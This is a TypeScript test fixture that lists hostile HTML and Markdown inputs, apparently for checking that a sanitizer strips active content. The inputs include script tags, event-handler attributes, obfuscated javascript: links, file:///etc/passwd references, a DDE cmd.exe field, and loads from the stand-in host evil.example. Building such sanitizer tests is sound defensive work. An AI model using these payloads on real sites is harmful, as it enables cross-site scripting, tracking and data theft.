import { existsSync, readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'

/** Bodies that would run something, or load something from elsewhere, if an edition let them. */
export const payloads: readonly string[] = [
  '<script>alert(1)</script>',
  '<script src="https://evil.example/x.js"></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script type="text/template"><img src=x onerror=alert(1)></script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<b onclick="alert(1)" onmouseover=alert(1)>a</b>',
  '<details open ontoggle=alert(1)><summary>a</summary>b</details>',
  '<img src="a.png" alt="a" onerror="alert(1)" onload=alert(1)>',
  '<img src="https://evil.example/a.png" alt="a">',
  '<img src="//evil.example/a.png" alt="a" srcset="https://evil.example/b.png 2x" sizes="100vw">',
  '<img src="a.png" alt="a" srcset="https://evil.example/b.png 2x" longdesc="https://evil.example/" usemap="#m">',
  '<picture><source srcset="https://evil.example/b.webp"><img src="a.png" alt="a"></picture>',
  '<img src="javascript:alert(1)" alt="a"> <img src="data:text/html,x" alt="b"> <img src="file:///etc/passwd" alt="c">',
  '![a](javascript:alert(1)) ![b](https://evil.example/a.png "c")',
  '[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](java&#9;script:alert(1)) [d](&#x6A;avascript:alert(1))',
  '<a href="&#1;javascript:alert(1)">a</a> <a href="java\nscript:alert(1)">b</a> <a href="\u00a0javascript:alert(1)">c</a>',
  '<a href="vbscript:x">a</a> <a href="data:text/html;base64,PHNjcmlwdD4=">b</a> <a href="file:///etc/passwd">c</a> <a href="blob:x">d</a>',
  '<a href="view-source:https://a.example/">a</a> <a href="ms-word:ofe|u|https://evil.example/x.docm">b</a> <a href="smb://evil.example/x">c</a>',
  '<a href="https://a.example/" ping="https://evil.example/" target="_blank" download onclick="alert(1)">a</a>',
  '<a xlink:href="javascript:alert(1)">a</a> <math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<javascript:alert(1)> <vbscript:msgbox> [x]: javascript:alert(1)',
  '<p style="background:url(https://evil.example/a.png)">a</p> <span style="behavior:url(#x);width:expression(alert(1))">b</span>',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/a.png)}</style>a',
  '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="preload" as="image" href="https://evil.example/a.png">a',
  '<base href="https://evil.example/">[a](b)',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">a <meta charset="utf-7">',
  '<iframe src="https://evil.example/"></iframe> <iframe srcdoc="<script>alert(1)</script>"></iframe> <iframe src="javascript:alert(1)"></iframe>',
  '<object data="https://evil.example/x.swf"><param name="movie" value="https://evil.example/x.swf">a</object>',
  '<embed src="https://evil.example/x.swf"> <embed src="javascript:alert(1)"> <applet code="x">a</applet>',
  '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png" autoplay onplay=alert(1)>a</video> <audio src="data:audio/wav,x">b</audio>',
  '<svg onload=alert(1)><script>alert(1)</script><image href="https://evil.example/a.png"/><use href="https://evil.example/#x"/><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<form action="https://evil.example/"><input name="a" autofocus onfocus=alert(1)><button formaction="javascript:alert(1)">b</button></form>',
  '<input type="image" src="https://evil.example/a.png"> <textarea onfocus=alert(1)>a</textarea> <select onchange=alert(1)><option>b</select>',
  '<table background="https://evil.example/a.png"><tr><td background="https://evil.example/a.png" onclick=alert(1)>a</table>',
  '<body background="https://evil.example/a.png" onload=alert(1)> <html manifest="https://evil.example/x">a',
  '<blockquote cite="javascript:alert(1)">a</blockquote> <q cite="https://evil.example/">b</q>',
  '<abbr title="&quot;><script>alert(1)</script>">a</abbr> [b](https://a.example/ "\\"><script>alert(1)</script>")',
  '<span lang="en&quot; onclick=&quot;alert(1)">a</span> <div dir="ltr&quot; onclick=&quot;x">b</div> <h2 id="a&quot; onclick=&quot;x">c</h2>',
  '`<script>alert(1)</script>` and &lt;script&gt;alert(1)&lt;/script&gt;',
  '```html onload="alert(1)"\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\na\n```',
  '[a]{onclick=alert(1) style="x:url(https://evil.example/)"} :::box{onclick="alert(1)"}',
  ':::figure{source="<script>alert(1)</script>" credit="javascript:alert(1)"}\n![a](a.png)\n:::',
  '<portal src="https://evil.example/"></portal> <frameset><frame src="https://evil.example/"></frameset> <marquee onstart=alert(1)>a</marquee>',
  '<template><img src=x onerror=alert(1)></template> <dialog open oncancel=alert(1)>a</dialog> <slot>b</slot>',
  '<!--[if IE]><script>alert(1)</script><![endif]--> <?xml-stylesheet href="https://evil.example/x.css"?> <![CDATA[<script>alert(1)</script>]]>',
  'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe {INCLUDEPICTURE "https://evil.example/a.png"} =HYPERLINK("https://evil.example/")',
]

const folder = fileURLToPath(new URL('../../../shared/corpus/hostile/html/', import.meta.url))

/** Those of a collection that stands beside the repository, where it does. */
export function collectedPayloads(): readonly string[] {
  if (!existsSync(folder)) return []
  const read = (name: string): string => readFileSync(`${folder}${name}`, 'utf8')
  const { cases }: { readonly cases: readonly { readonly payload: string }[] } = JSON.parse(
    read('dompurify-cases.json'),
  )
  const bodies = ['dompurify-in-document.md', 'gen-active-content.md'].map((name) =>
    read(name).replace(/^---\n[\s\S]*?\n---\n/, ''),
  )
  return [...bodies, ...cases.map(({ payload }) => payload)]
}
